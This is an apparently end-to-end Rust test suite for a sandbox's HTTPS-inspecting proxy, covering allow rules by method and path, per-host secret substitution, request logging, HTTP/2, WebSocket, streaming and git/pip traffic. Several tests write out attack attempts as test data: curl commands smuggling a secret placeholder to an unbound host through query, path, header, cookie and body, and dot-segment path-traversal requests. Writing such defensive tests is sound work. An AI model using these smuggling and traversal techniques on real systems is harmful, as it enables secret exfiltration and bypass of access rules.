//! HTTPS inspection (`--allow 'METHODS https://HOST[:PORT]/PATH-GLOB'`): the mediator
//! terminates the sandbox's TLS with a per-session CA the sandbox trusts, decides each
//! request by method and path, swaps secrets' placeholders for their values on the
//! hosts they are bound to, and records every request. Real clients (curl, Python's
//! urllib and requests, Node's fetch and https, git, pip) inside the sandbox talk to
//! real HTTPS servers on the host's loopback (`https_servers`), whose own test CA is
//! given with `--upstream-ca`; names are pinned to the loopback with `--add-host`.

use std::path::Path;
use std::time::Duration;

use base64::Engine as _;
use serde_json::Value;

use super::harness::{
    Output, PYTHON, RecordsHome, Runner, TempDir, Vg, Workspace, chown_to, each_identity,
    free_port, is_root, require_tools, session_metadata, unique, wait_until,
};
use super::https_servers::{Answer, Client, PY_SSE_CLIENT, PY_WS_CLIENT, Server, TestCa};
use super::mediated_network::{network_events, show_network};

const CURL: (&str, &str) = ("/usr/bin/curl", "curl");
const OPENSSL: (&str, &str) = ("/usr/bin/openssl", "openssl");
const GIT: (&str, &str) = ("/usr/bin/git", "git");
const GIT_BACKEND: (&str, &str) = ("/usr/lib/git-core/git-http-backend", "git");
const PIP: (&str, &str) = ("/usr/lib/python3/dist-packages/pip", "python3-pip");
const PY: (&str, &str) = (PYTHON, "python3");

/// The variables the sandbox gets pointing at the bundle that trusts the session CA.
const CA_VARIABLES: [&str; 7] = [
    "SSL_CERT_FILE",
    "REQUESTS_CA_BUNDLE",
    "NODE_EXTRA_CA_CERTS",
    "CURL_CA_BUNDLE",
    "GIT_SSL_CAINFO",
    "PIP_CERT",
    "CARGO_HTTP_CAINFO",
];

/// What vectraguard exits with when it refuses its arguments or configuration.
const USAGE: i32 = 125;

// ---------------------------------------------------------------------------------------
// Helpers.

/// `--add-host NAME:127.0.0.1` for each name, and `--upstream-ca` for the test CA.
fn pinned(ca: &TestCa, names: &[&str]) -> Vec<String> {
    let mut options = Vec::new();
    for name in names {
        options.push("--add-host".to_owned());
        options.push(format!("{name}:127.0.0.1"));
    }
    options.push("--upstream-ca".to_owned());
    options.push(ca.arg());
    options
}

/// `--allow RULE` for each rule.
fn allowing(options: &mut Vec<String>, rules: &[String]) {
    for rule in rules {
        options.push("--allow".to_owned());
        options.push(rule.clone());
    }
}

fn strs(v: &[String]) -> Vec<&str> {
    v.iter().map(String::as_str).collect()
}

/// `vectraguard sandbox run OPTIONS -- bash -c SCRIPT`, recorded under `home`.
fn bash(
    runner: Runner,
    ws: &Workspace,
    home: &RecordsHome,
    options: &[String],
    script: &str,
) -> Vg {
    bash_on("native", runner, ws, home, options, script)
}

/// [`bash`] on `backend`.
fn bash_on(
    backend: &str,
    runner: Runner,
    ws: &Workspace,
    home: &RecordsHome,
    options: &[String],
    script: &str,
) -> Vg {
    let mut all = vec!["--backend".to_owned(), backend.to_owned()];
    all.extend(options.iter().cloned());
    let mut vg = Vg::sandbox(runner, ws, &strs(&all), &["/bin/bash", "-c", script]);
    vg.records_home(home);
    vg
}

/// The backends that run HTTPS inspection: gVisor's sandbox is served by the same
/// mediator and inspector (its tests below run on both).
const INSPECTING_BACKENDS: [&str; 2] = ["native", "gvisor"];

/// A shell line running `command` with every line of its output (stdout and stderr)
/// prefixed by `label.`, for [`Answer::parse`].
fn labeled(label: &str, command: &str) -> String {
    format!("{{ {command} ; }} 2>&1 | sed 's/^/{label}./'\n")
}

/// The inspector's `http` events.
fn http_events(home: &RecordsHome) -> Vec<Value> {
    network_events(home)
        .into_iter()
        .filter(|e| e["event"] == "http")
        .collect()
}

/// The only `http` event with this method whose recorded path starts with `path`.
#[track_caller]
fn exchange<'a>(events: &'a [Value], method: &str, path: &str) -> &'a Value {
    let found: Vec<&Value> = events
        .iter()
        .filter(|e| {
            e["method"] == method && e["path"].as_str().is_some_and(|p| p.starts_with(path))
        })
        .collect();
    assert_eq!(
        found.len(),
        1,
        "expected one http event {method} {path}, found {found:#?} among {events:#?}"
    );
    found[0]
}

/// A refusal by the inspector: 403, and a body that says who refused
/// (`vectraguard: refused …`).
#[track_caller]
fn assert_refused(answer: &Answer, context: &dyn std::fmt::Display) {
    assert_eq!(answer.status, Some(403), "{answer:?}\n{context}");
    let body = answer.body.to_lowercase();
    assert!(
        body.contains("vectraguard") && body.contains("refused"),
        "the 403's body does not name the refusal: {answer:?}\n{context}"
    );
}

/// Every file under `dir`, recursively (symlinks not followed).
fn files_under(dir: &Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(&d) else {
            continue;
        };
        for entry in entries.flatten() {
            let path = entry.path();
            match entry.file_type() {
                Ok(t) if t.is_dir() => stack.push(path),
                Ok(t) if t.is_file() => out.push(path),
                _ => {}
            }
        }
    }
    out
}

/// Fails the test if `needle` is in the run's output or in any file of the records.
#[track_caller]
pub(super) fn assert_nowhere(needle: &str, out: &Output, home: &RecordsHome) {
    assert!(
        !out.stdout.contains(needle) && !out.stderr.contains(needle),
        "{needle:?} is in the output\n{out}"
    );
    for file in files_under(home.path()) {
        let bytes = std::fs::read(&file).unwrap_or_default();
        assert!(
            !bytes.windows(needle.len()).any(|w| w == needle.as_bytes()),
            "{needle:?} is in {}",
            file.display()
        );
    }
}

/// The `sha256sum` of `yes vectraguard-upload-pattern | head -c 1073741824`, the gigabyte
/// the upload test sends.
const GIGABYTE_SHA256: &str = "95d0e6f128c501c6dc2b486743b49efa049ecc1ad7a96d8fcb1cb8b1562b6afc";

// ---------------------------------------------------------------------------------------
// Method and path rules with every client.

#[test]
fn curl_gets_what_its_rule_allows_and_403_for_other_methods_and_paths() {
    if !require_tools(&[CURL]) {
        return;
    }
    each_identity(|runner| {
        for backend in INSPECTING_BACKENDS {
            curl_rules_on(runner, backend);
        }
    });
}

/// The body of the test above, on `backend`.
fn curl_rules_on(runner: Runner, backend: &str) {
    let ws = Workspace::new();
    let home = RecordsHome::new(runner);
    let ca = TestCa::new("curl");
    let api = ca.serve(&["api.test"]);
    let port = api.port;
    let mut options = pinned(&ca, &["api.test"]);
    let rule = format!("GET,HEAD https://api.test:{port}/echo/**");
    allowing(&mut options, std::slice::from_ref(&rule));
    let query_value = format!("qv{}", unique());
    let url = |p: &str| api.url("api.test", p);
    let curl = |method: &str, path: &str| Client::Curl.shell(method, &url(path), &["X-Test: 1"]);
    let script = [
        labeled(
            "get",
            &curl("GET", &format!("/echo/a/b?token={query_value}&page=2")),
        ),
        labeled("head", &curl("HEAD", "/echo/a")),
        labeled("folder", &curl("GET", "/echo")),
        labeled("post", &curl("POST", "/echo/a")),
        labeled("delete", &curl("DELETE", "/echo/a")),
        labeled("path", &curl("GET", "/download?bytes=10")),
        labeled("prefix", &curl("GET", "/echoes")),
        // Dot segments, raw and encoded, that a server would resolve out of /echo.
        format!(
            "curl -sS --path-as-is -o /dev/null -w 'dotdot.status=%{{http_code}}\\n' {}\n",
            url("/echo/../download?bytes=10")
        ),
        format!(
            "curl -sS --path-as-is -o /dev/null -w 'encoded.status=%{{http_code}}\\n' {}\n",
            url("/echo/%2e%2e/download?bytes=10")
        ),
    ]
    .concat();
    let out = bash_on(backend, runner, &ws, &home, &options, &script).run();
    out.assert_success();

    let get = Answer::parse(&out.stdout, "get.");
    assert_eq!(get.status, Some(200), "{out}");
    let echo = get.json();
    assert_eq!(echo["method"], "GET");
    assert_eq!(echo["path"], "/echo/a/b");
    assert_eq!(echo["query"], format!("token={query_value}&page=2"));
    assert_eq!(echo["headers"]["x-test"], "1");
    assert_eq!(
        Answer::parse(&out.stdout, "head.").status,
        Some(200),
        "{out}"
    );
    assert_eq!(
        Answer::parse(&out.stdout, "folder.").status,
        Some(200),
        "a trailing /** also matches the folder itself\n{out}"
    );
    for label in ["post", "delete", "path", "prefix"] {
        assert_refused(&Answer::parse(&out.stdout, &format!("{label}.")), &out);
    }
    for label in ["dotdot", "encoded"] {
        let status = out.field(&format!("{label}.status"));
        assert!(
            status == "403" || status == "400",
            "{label}: a dot segment reached past the rule ({status})\n{out}"
        );
    }

    // The server saw only what the rule allows.
    let seen = api.seen();
    for request in &seen {
        assert!(
            matches!(request["method"].as_str(), Some("GET" | "HEAD")),
            "{request}"
        );
        let path = request["path"].as_str().unwrap();
        assert!(path == "/echo" || path.starts_with("/echo/"), "{request}");
        assert!(!path.contains(".."), "{request}");
    }
    assert_eq!(seen.len(), 3, "{seen:#?}");

    // Each request is recorded; query values are not.
    let events = http_events(&home);
    let get = exchange(&events, "GET", "/echo/a/b");
    assert_eq!(get["host"], "api.test", "{get}");
    assert_eq!(get["port"], port, "{get}");
    assert_eq!(get["scheme"], "https", "{get}");
    assert_eq!(
        get["path"], "/echo/a/b?token=REDACTED&page=REDACTED",
        "{get}"
    );
    assert_eq!(get["status"], 200, "{get}");
    assert_eq!(get["decision"], "allow", "{get}");
    assert!(get["rule"].as_str().unwrap().contains(&rule), "{get}");
    assert!(get["bytes_in"].as_u64().unwrap() > 0, "{get}");
    assert!(get["bytes_out"].is_u64(), "{get}");
    assert!(get["duration_ms"].is_u64(), "{get}");
    assert_eq!(get["secrets"], serde_json::json!([]), "{get}");
    assert!(get["exfiltration"].is_null(), "{get}");
    assert!(get["error"].is_null(), "{get}");
    assert_eq!(exchange(&events, "HEAD", "/echo/a")["status"], 200);
    let post = exchange(&events, "POST", "/echo/a");
    assert_eq!(post["status"], 403, "{post}");
    assert_eq!(post["decision"], "deny", "{post}");
    assert!(!post["reason"].as_str().unwrap_or("").is_empty(), "{post}");
    let path = exchange(&events, "GET", "/download");
    assert_eq!(path["decision"], "deny", "{path}");
    assert_eq!(path["path"], "/download?bytes=REDACTED", "{path}");
    let text = std::fs::read_to_string(home.only_session().join("events.jsonl")).unwrap();
    assert!(!text.contains(&query_value), "a query value was recorded");

    let table = show_network(runner, &home, ws.path());
    assert!(
        table
            .lines()
            .any(|l| l.contains("GET") && l.contains("/echo/a/b") && l.contains("200")),
        "{table}"
    );
    assert!(
        table
            .lines()
            .any(|l| l.contains("POST") && l.contains("/echo/a") && l.contains("403")),
        "{table}"
    );
    assert!(!table.contains(&query_value), "{table}");
}

#[test]
fn python_and_node_clients_trust_the_session_ca_and_obey_the_rules() {
    let mut tools = vec![CURL];
    for client in Client::ALL {
        tools.extend_from_slice(client.tools());
    }
    if !require_tools(&tools) {
        return;
    }
    each_identity(|runner| {
        let ws = Workspace::new();
        let home = RecordsHome::new(runner);
        let ca = TestCa::new("clients");
        let api = ca.serve(&["api.test"]);
        let mut options = pinned(&ca, &["api.test"]);
        allowing(
            &mut options,
            &[format!("GET https://api.test:{}/echo/**", api.port)],
        );
        let names = ["curl", "urllib", "requests", "fetch", "https"];
        let mut script = String::new();
        // The variables every client reads, set by vectraguard.
        for var in CA_VARIABLES {
            script.push_str(&format!("echo \"var.{var}=${{{var}:-unset}}\"\n"));
        }
        for (client, name) in Client::ALL.into_iter().zip(names) {
            script.push_str(&labeled(
                &format!("{name}.get"),
                &client.shell("GET", &api.url("api.test", &format!("/echo/{name}")), &[]),
            ));
            script.push_str(&labeled(
                &format!("{name}.post"),
                &client.shell("POST", &api.url("api.test", &format!("/echo/{name}")), &[]),
            ));
        }
        let out = bash(runner, &ws, &home, &options, &script).run();
        out.assert_success();
        for var in CA_VARIABLES {
            let value = out.field(&format!("var.{var}"));
            assert!(value.starts_with('/'), "{var} is not set inside\n{out}");
        }
        for name in names {
            let get = Answer::parse(&out.stdout, &format!("{name}.get."));
            assert_eq!(get.status, Some(200), "{name}\n{out}");
            assert_eq!(get.json()["path"], format!("/echo/{name}"), "{name}\n{out}");
            assert_refused(&Answer::parse(&out.stdout, &format!("{name}.post.")), &out);
        }
        let seen = api.seen();
        assert_eq!(seen.len(), names.len(), "{seen:#?}");
        assert!(seen.iter().all(|r| r["method"] == "GET"), "{seen:#?}");
        let events = http_events(&home);
        for name in names {
            assert_eq!(
                exchange(&events, "GET", &format!("/echo/{name}"))["status"],
                200
            );
            assert_eq!(
                exchange(&events, "POST", &format!("/echo/{name}"))["status"],
                403
            );
        }
    });
}

#[test]
fn plain_http_rules_are_decided_per_request_too() {
    if !require_tools(&[CURL]) {
        return;
    }
    each_identity(|runner| {
        let ws = Workspace::new();
        let home = RecordsHome::new(runner);
        let ca = TestCa::new("plain");
        let web = Server::plain();
        let mut options = pinned(&ca, &["plain.test"]);
        allowing(
            &mut options,
            &[format!("GET http://plain.test:{}/echo/**", web.port)],
        );
        let url = |p: &str| web.url("plain.test", p);
        let script = [
            labeled("get", &Client::Curl.shell("GET", &url("/echo/p"), &[])),
            labeled("post", &Client::Curl.shell("POST", &url("/echo/p"), &[])),
            labeled(
                "other",
                &Client::Curl.shell("GET", &url("/status/200"), &[]),
            ),
        ]
        .concat();
        let out = bash(runner, &ws, &home, &options, &script).run();
        out.assert_success();
        assert_eq!(Answer::parse(&out.stdout, "get.").json()["path"], "/echo/p");
        assert_refused(&Answer::parse(&out.stdout, "post."), &out);
        assert_refused(&Answer::parse(&out.stdout, "other."), &out);
        assert_eq!(web.seen().len(), 1, "{:#?}", web.seen());
        let events = http_events(&home);
        let get = exchange(&events, "GET", "/echo/p");
        assert_eq!(get["scheme"], "http", "{get}");
        assert_eq!(get["status"], 200, "{get}");
        assert_eq!(exchange(&events, "POST", "/echo/p")["status"], 403);
    });
}

/// The sandbox chooses the path it asks for: 100 000 requests with a path filling the
/// request head would put tens of GiB into `events.jsonl` past every record cap. The
/// recorded path is clipped to 4 KiB, its full size in `path_bytes`, and the record
/// still verifies.
#[test]
fn a_huge_request_path_is_clipped_in_the_record() {
    if !require_tools(&[CURL]) {
        return;
    }
    each_identity(|runner| {
        let ws = Workspace::new();
        let home = RecordsHome::new(runner);
        let ca = TestCa::new("long");
        let web = Server::plain();
        let mut options = pinned(&ca, &["long.test"]);
        allowing(
            &mut options,
            &[format!("GET http://long.test:{}/echo/**", web.port)],
        );
        let path = format!("/echo/{}", "a".repeat(60_000));
        let script = labeled(
            "get",
            &Client::Curl.shell("GET", &web.url("long.test", &path), &[]),
        );
        let out = bash(runner, &ws, &home, &options, &script).run();
        out.assert_success();
        let events = http_events(&home);
        let get = exchange(&events, "GET", "/echo/aaaa");
        let recorded = get["path"].as_str().unwrap();
        assert_eq!(recorded.len(), 4096, "{}", &recorded[..64]);
        assert!(path.starts_with(recorded));
        assert_eq!(get["path_bytes"], path.len(), "{get}");
        let log = std::fs::read_to_string(home.only_session().join("events.jsonl")).unwrap();
        assert!(log.len() < 32 * 1024, "events.jsonl is {} bytes", log.len());
        Vg::new(runner, ws.path())
            .args(["logs", "verify", "last"])
            .records_home(&home)
            .run()
            .assert_success();
    });
}

#[test]
fn git_clones_over_inspected_https_with_segment_rules() {
    if !require_tools(&[GIT, GIT_BACKEND]) {
        return;
    }
    each_identity(|runner| {
        let ws = Workspace::new();
        let home = RecordsHome::new(runner);
        let ca = TestCa::new("git");
        let git = ca.serve(&["git.test"]);
        let marker = git.add_git_repo("repo");
        let p = git.port;
        let mut options = pinned(&ca, &["git.test"]);
        allowing(
            &mut options,
            &[
                format!("GET https://git.test:{p}/git/**"),
                // `*` within one segment: any repository, only fetches.
                format!("POST https://git.test:{p}/git/*/git-upload-pack"),
            ],
        );
        let script = format!(
            "git clone -q {} clone && echo \"readme=$(cat clone/README)\"\n\
             git -C clone log --format='commit=%s' -1\n",
            git.url("git.test", "/git/repo.git")
        );
        let out = bash(runner, &ws, &home, &options, &script).run();
        out.assert_success();
        assert_eq!(out.field("readme"), marker, "{out}");
        assert_eq!(out.field("commit"), "the test repository", "{out}");
        let events = http_events(&home);
        let refs = exchange(&events, "GET", "/git/repo.git/info/refs");
        assert_eq!(
            refs["path"], "/git/repo.git/info/refs?service=REDACTED",
            "{refs}"
        );
        assert_eq!(refs["status"], 200, "{refs}");
        // Protocol v2: one POST to list the refs, one to fetch the pack.
        let packs: Vec<&Value> = events
            .iter()
            .filter(|e| e["method"] == "POST" && e["path"] == "/git/repo.git/git-upload-pack")
            .collect();
        assert!(!packs.is_empty(), "{events:#?}");
        assert!(packs.iter().all(|e| e["status"] == 200), "{packs:#?}");
        let fetched: u64 = packs.iter().map(|e| e["bytes_in"].as_u64().unwrap()).sum();
        assert!(fetched > 200, "{packs:#?}");
    });
}

#[test]
fn pip_installs_from_an_inspected_package_index() {
    if !require_tools(&[PY, PIP]) {
        return;
    }
    each_identity(|runner| {
        let ws = Workspace::new();
        let home = RecordsHome::new(runner);
        let ca = TestCa::new("pip");
        let pypi = ca.serve(&["pypi.test"]);
        let marker = pypi.add_wheel("vgdemo", "1.0");
        let p = pypi.port;
        let mut options = pinned(&ca, &["pypi.test"]);
        allowing(
            &mut options,
            &[
                format!("GET https://pypi.test:{p}/simple/**"),
                format!("GET https://pypi.test:{p}/packages/*.whl"),
            ],
        );
        let script = format!(
            "{PYTHON} -m pip install --quiet --no-cache-dir --disable-pip-version-check \
             --index-url {} --target site vgdemo\n\
             PYTHONPATH=site {PYTHON} -c 'import vgdemo; print(\"marker=\" + vgdemo.MARKER)'\n",
            pypi.url("pypi.test", "/simple/")
        );
        let out = bash(runner, &ws, &home, &options, &script).run();
        out.assert_success();
        assert_eq!(out.field("marker"), marker, "{out}");
        assert!(ws.exists("site/vgdemo/__init__.py"));
        let events = http_events(&home);
        assert_eq!(exchange(&events, "GET", "/simple/vgdemo")["status"], 200);
        let wheel = exchange(&events, "GET", "/packages/vgdemo-1.0-py3-none-any.whl");
        assert_eq!(wheel["status"], 200, "{wheel}");
    });
}

// ---------------------------------------------------------------------------------------
// Streams, uploads, HTTP/2, WebSocket.

#[test]
fn a_gigabyte_upload_streams_through_inspection() {
    if !require_tools(&[CURL]) {
        return;
    }
    each_identity(|runner| {
        let ws = Workspace::new();
        let home = RecordsHome::new(runner);
        let ca = TestCa::new("upload");
        let api = ca.serve(&["api.test"]);
        let mut options = pinned(&ca, &["api.test"]);
        allowing(
            &mut options,
            &[format!("PUT,POST https://api.test:{}/upload", api.port)],
        );
        // Streamed from a pipe (chunked): nothing of this size fits the sandbox's /tmp.
        let script = format!(
            "yes vectraguard-upload-pattern | head -c 1073741824 | \
             curl -sS --max-time 500 -T - -o upload.json {}\n\
             echo \"curl=$?\"; echo \"upload=$(cat upload.json)\"\n",
            api.url("api.test", "/upload")
        );
        let started = std::time::Instant::now();
        let out = bash(runner, &ws, &home, &options, &script)
            .spawn()
            .finish(Duration::from_secs(560));
        let took = started.elapsed();
        out.assert_success();
        assert_eq!(out.field("curl"), "0", "{out}");
        let result: Value = serde_json::from_str(&out.field("upload")).unwrap();
        assert_eq!(result["bytes"], 1_073_741_824u64, "{out}");
        assert_eq!(result["sha256"], GIGABYTE_SHA256, "{out}");
        eprintln!("[{runner}] 1 GiB uploaded through inspection in {took:?}");
        let events = http_events(&home);
        let put = exchange(&events, "PUT", "/upload");
        assert_eq!(put["status"], 200, "{put}");
        assert!(put["bytes_out"].as_u64().unwrap() >= 1_073_741_824, "{put}");
    });
}

#[test]
fn a_server_sent_event_stream_arrives_event_by_event() {
    if !require_tools(&[PY]) {
        return;
    }
    each_identity(|runner| {
        let ws = Workspace::new();
        let home = RecordsHome::new(runner);
        let ca = TestCa::new("sse");
        let api = ca.serve(&["api.test"]);
        let mut options = pinned(&ca, &["api.test"]);
        allowing(
            &mut options,
            &[format!("GET https://api.test:{}/sse", api.port)],
        );
        let url = api.url("api.test", "/sse?n=5&gap_ms=400");
        let out = Vg::sandbox(
            runner,
            &ws,
            &strs(&options),
            &[PYTHON, "-c", PY_SSE_CLIENT, &url],
        )
        .records_home(&home)
        .run();
        out.assert_success();
        assert_eq!(out.field("sse.events"), "5", "{out}");
        let first: i64 = out.field("sse.first").parse().unwrap();
        let last: i64 = out.field("sse.last").parse().unwrap();
        let sent: Vec<i64> = out
            .field("sse.sent")
            .split(',')
            .map(|s| s.parse().unwrap())
            .collect();
        // The stream lasts 1.6 s: a buffering mediator would hand everything over at
        // the end. The first event must arrive well before the last one is sent.
        // (Half the gaps of margin, for a loaded machine.)
        assert!(last - first >= 800, "the events arrived together\n{out}");
        assert!(
            first < sent[4] - 800,
            "the first event arrived only {} ms before the last was sent\n{out}",
            sent[4] - first
        );
        let events = http_events(&home);
        let sse = exchange(&events, "GET", "/sse");
        assert_eq!(sse["status"], 200, "{sse}");
        assert!(sse["duration_ms"].as_u64().unwrap() >= 1500, "{sse}");
    });
}

#[test]
fn http2_is_spoken_on_both_sides_and_each_stream_is_decided() {
    if !require_tools(&[CURL]) {
        return;
    }
    each_identity(|runner| {
        let ws = Workspace::new();
        let home = RecordsHome::new(runner);
        let ca = TestCa::new("h2");
        let api = ca.serve(&["api.test"]);
        let mut options = pinned(&ca, &["api.test"]);
        allowing(
            &mut options,
            &[format!("GET https://api.test:{}/echo/**", api.port)],
        );
        // Two requests on one connection (the second reuses it): one allowed, one not.
        let script = format!(
            "curl -sS --http2 -w '\\nh2=%{{http_version}} %{{http_code}} %{{num_connects}}\\n' {} \
             --next -sS --http2 -o /dev/null -w 'h2b=%{{http_version}} %{{http_code}} %{{num_connects}}\\n' {}\n",
            api.url("api.test", "/echo/h2"),
            api.url("api.test", "/download?bytes=10"),
        );
        let out = bash(runner, &ws, &home, &options, &script).run();
        out.assert_success();
        assert_eq!(out.field("h2"), "2 200 1", "{out}");
        assert_eq!(out.field("h2b"), "2 403 0", "{out}");
        let echo: Value = serde_json::from_str(out.lines()[0]).unwrap();
        assert_eq!(
            echo["version"], "HTTP/2.0",
            "the server was not spoken to in HTTP/2"
        );
        assert!(api.seen_under("/download").is_empty());
        assert!(
            api.handshakes()
                .iter()
                .all(|h| h.alpn.as_deref() == Some("h2")),
            "{:?}",
            api.handshakes()
        );
        let events = http_events(&home);
        let allowed = exchange(&events, "GET", "/echo/h2");
        assert_eq!(allowed["protocol"], "HTTP/2", "{allowed}");
        assert_eq!(allowed["status"], 200, "{allowed}");
        let refused = exchange(&events, "GET", "/download");
        assert_eq!(refused["protocol"], "HTTP/2", "{refused}");
        assert_eq!(refused["status"], 403, "{refused}");
        assert_eq!(allowed["connection"], refused["connection"], "{events:#?}");
    });
}

#[test]
fn a_websocket_upgrade_passes_once_its_request_is_allowed() {
    if !require_tools(&[PY]) {
        return;
    }
    each_identity(|runner| {
        let ws = Workspace::new();
        let home = RecordsHome::new(runner);
        let ca = TestCa::new("ws");
        let api = ca.serve(&["api.test"]);
        let mut options = pinned(&ca, &["api.test"]);
        allowing(
            &mut options,
            &[format!("GET https://api.test:{}/ws", api.port)],
        );
        let port = api.port.to_string();
        let out = Vg::sandbox(
            runner,
            &ws,
            &strs(&options),
            &[PYTHON, "-c", PY_WS_CLIENT, "api.test", &port],
        )
        .records_home(&home)
        .run();
        out.assert_success();
        assert!(
            out.field("ws.status").starts_with("HTTP/1.1 101"),
            "{out}\nthe server saw: {:#?}",
            api.seen()
        );
        assert_eq!(out.field("ws.accept_ok"), "True", "{out}");
        assert_eq!(out.field("ws.echo"), "hello over a websocket", "{out}");
        let events = http_events(&home);
        let upgrade = exchange(&events, "GET", "/ws");
        assert_eq!(upgrade["status"], 101, "{upgrade}");
        assert!(upgrade["bytes_in"].as_u64().unwrap() > 0, "{upgrade}");
    });
}

// ---------------------------------------------------------------------------------------
// Secrets.

#[test]
fn a_secret_is_swapped_in_for_its_host_only_and_never_seen_inside() {
    if !require_tools(&[CURL]) {
        return;
    }
    each_identity(|runner| {
        for backend in INSPECTING_BACKENDS {
            secret_swapped_in_on(runner, backend);
        }
    });
}

/// The body of the test above, on `backend`.
fn secret_swapped_in_on(runner: Runner, backend: &str) {
    let ws = Workspace::new();
    let home = RecordsHome::new(runner);
    let ca = TestCa::new("secret");
    let api = ca.serve(&["api.test"]);
    let other = ca.serve(&["other.test"]);
    let secret = format!("sk-live-{}", unique());
    let mut options = pinned(&ca, &["api.test", "other.test"]);
    allowing(
        &mut options,
        &[
            format!("GET https://api.test:{}/**", api.port),
            format!("GET https://other.test:{}/**", other.port),
        ],
    );
    options.push("--secret".into());
    options.push("TOKEN=env:VG_E2E_TOKEN@api.test".into());
    // /status/* answers without echoing: the sandbox never gets the value back.
    let script = format!(
        r#"echo "len=${{#TOKEN}}"
echo "placeholder=$TOKEN"
curl -sS -o /dev/null -w 'bearer=%{{http_code}}\n' -H "Authorization: Bearer $TOKEN" {a}/status/200
curl -sS -o /dev/null -w 'basic=%{{http_code}}\n' -u "user:$TOKEN" {a}/status/201
curl -sS -o /dev/null -w 'custom=%{{http_code}}\n' -H "X-Api-Key: $TOKEN" {a}/status/202
echo "echoed=$(curl -sS -H "Authorization: Bearer $TOKEN" {a}/echo/bound)"
{unbound}"#,
        a = api.url("api.test", ""),
        unbound = labeled(
            "unbound",
            &format!(
                r#"curl -sS -w '\nstatus=%{{http_code}}\n' -H "Authorization: Bearer $TOKEN" {}/echo/x | sed '1s/^/body=/'"#,
                other.url("other.test", "")
            )
        ),
    );
    let out = bash_on(backend, runner, &ws, &home, &options, &script)
        .env("VG_E2E_TOKEN", &secret)
        .run();
    out.assert_success();
    let placeholder = out.field("placeholder");
    assert_eq!(out.field("len"), secret.len().to_string(), "{out}");
    assert_ne!(placeholder, secret);
    assert_eq!(out.field("bearer"), "200", "{out}");
    assert_eq!(out.field("basic"), "201", "{out}");
    assert_eq!(out.field("custom"), "202", "{out}");
    assert_refused(&Answer::parse(&out.stdout, "unbound."), &out);

    // The bound host got the value, in every form.
    let header = |path: &str, name: &str| {
        let seen = api.seen_under(path);
        assert_eq!(seen.len(), 1, "{seen:#?}");
        seen[0]["headers"][name].as_str().unwrap().to_owned()
    };
    assert_eq!(
        header("/status/200", "authorization"),
        format!("Bearer {secret}")
    );
    let basic = base64::engine::general_purpose::STANDARD.encode(format!("user:{secret}"));
    assert_eq!(
        header("/status/201", "authorization"),
        format!("Basic {basic}")
    );
    assert_eq!(header("/status/202", "x-api-key"), secret);
    // An echo of the value comes back as the placeholder.
    assert_eq!(
        header("/echo/bound", "authorization"),
        format!("Bearer {secret}")
    );
    let echoed: Value = serde_json::from_str(&out.field("echoed")).unwrap();
    assert_eq!(
        echoed["headers"]["authorization"],
        format!("Bearer {placeholder}"),
        "{out}"
    );
    // The other host got nothing: not the value, not the placeholder.
    assert!(other.seen().is_empty(), "{:#?}", other.seen());

    assert_nowhere(&secret, &out, &home);
    assert_nowhere(&basic, &out, &home);
    let events = http_events(&home);
    let bearer = exchange(&events, "GET", "/status/200");
    assert_eq!(bearer["secrets"], serde_json::json!(["TOKEN"]), "{bearer}");
    assert!(bearer["exfiltration"].is_null(), "{bearer}");
    assert_eq!(
        exchange(&events, "GET", "/status/201")["secrets"],
        serde_json::json!(["TOKEN"])
    );
    let unbound = exchange(&events, "GET", "/echo/x");
    assert_eq!(unbound["host"], "other.test", "{unbound}");
    assert_eq!(unbound["decision"], "deny", "{unbound}");
    assert_eq!(unbound["status"], 403, "{unbound}");
    assert_eq!(unbound["exfiltration"], "TOKEN", "{unbound}");
    let meta = session_metadata(&home.only_session());
    let inspection = &meta["network"]["inspection"];
    assert_eq!(
        inspection["secrets"]["TOKEN"],
        serde_json::json!(["api.test"]),
        "{meta:#}"
    );
    let table = show_network(runner, &home, ws.path());
    assert!(table.contains("EXFILTRATION"), "{table}");
    assert!(!table.contains(&secret), "{table}");
}

#[test]
fn a_placeholder_smuggled_to_an_allowed_unbound_host_is_blocked() {
    if !require_tools(&[CURL]) {
        return;
    }
    each_identity(|runner| {
        let ws = Workspace::new();
        let home = RecordsHome::new(runner);
        let ca = TestCa::new("smuggle");
        let api = ca.serve(&["api.test"]);
        let other = ca.serve(&["other.test"]);
        let secret = format!("ghp_{}", unique());
        let mut options = pinned(&ca, &["api.test", "other.test"]);
        allowing(
            &mut options,
            &[
                format!("GET https://api.test:{}/**", api.port),
                format!("GET,POST https://other.test:{}/echo/**", other.port),
            ],
        );
        options.push("--secret".into());
        options.push("TOKEN=env:VG_E2E_TOKEN@api.test".into());
        let o = other.url("other.test", "");
        let status = |label: &str, args: &str| {
            format!(
                "curl -sS -o /dev/null -w '{label}=%{{http_code}}\\n' {args} || echo '{label}=failed'\n"
            )
        };
        let script = [
            "echo \"placeholder=$TOKEN\"\n".to_owned(),
            status("query", &format!("\"{o}/echo/leak-query?leak=$TOKEN\"")),
            status("path", &format!("\"{o}/echo/leak-path/$TOKEN\"")),
            status(
                "header",
                &format!("-H \"X-Leak: $TOKEN\" {o}/echo/leak-header"),
            ),
            status(
                "cookie",
                &format!("-b \"session=$TOKEN\" {o}/echo/leak-cookie"),
            ),
            status(
                "body",
                &format!("-X POST --data \"leak=$TOKEN\" {o}/echo/leak-body"),
            ),
            status("clean", &format!("{o}/echo/clean")),
        ]
        .concat();
        let out = bash(runner, &ws, &home, &options, &script)
            .env("VG_E2E_TOKEN", &secret)
            .run();
        out.assert_success();
        assert_eq!(
            out.field("clean"),
            "200",
            "the host is otherwise allowed\n{out}"
        );
        for label in ["query", "path", "header", "cookie"] {
            assert_eq!(out.field(label), "403", "{label}\n{out}");
        }
        assert_ne!(out.field("body"), "200", "{out}");
        // Whatever reached the server carried no placeholder.
        for request in other.seen() {
            let text = request.to_string();
            assert!(
                request["path"] == "/echo/clean" || request["path"] == "/echo/leak-body",
                "{request}"
            );
            assert!(!text.contains(&out.field("placeholder")), "{request}");
        }
        assert!(api.seen().is_empty());
        let events = http_events(&home);
        for path in [
            "/echo/leak-query",
            "/echo/leak-path/",
            "/echo/leak-header",
            "/echo/leak-cookie",
        ] {
            let e = exchange(&events, "GET", path);
            assert_eq!(e["exfiltration"], "TOKEN", "{e}");
            assert_eq!(e["decision"], "deny", "{e}");
        }
        let body = exchange(&events, "POST", "/echo/leak-body");
        assert_eq!(body["exfiltration"], "TOKEN", "{body}");
        assert_nowhere(&secret, &out, &home);
    });
}

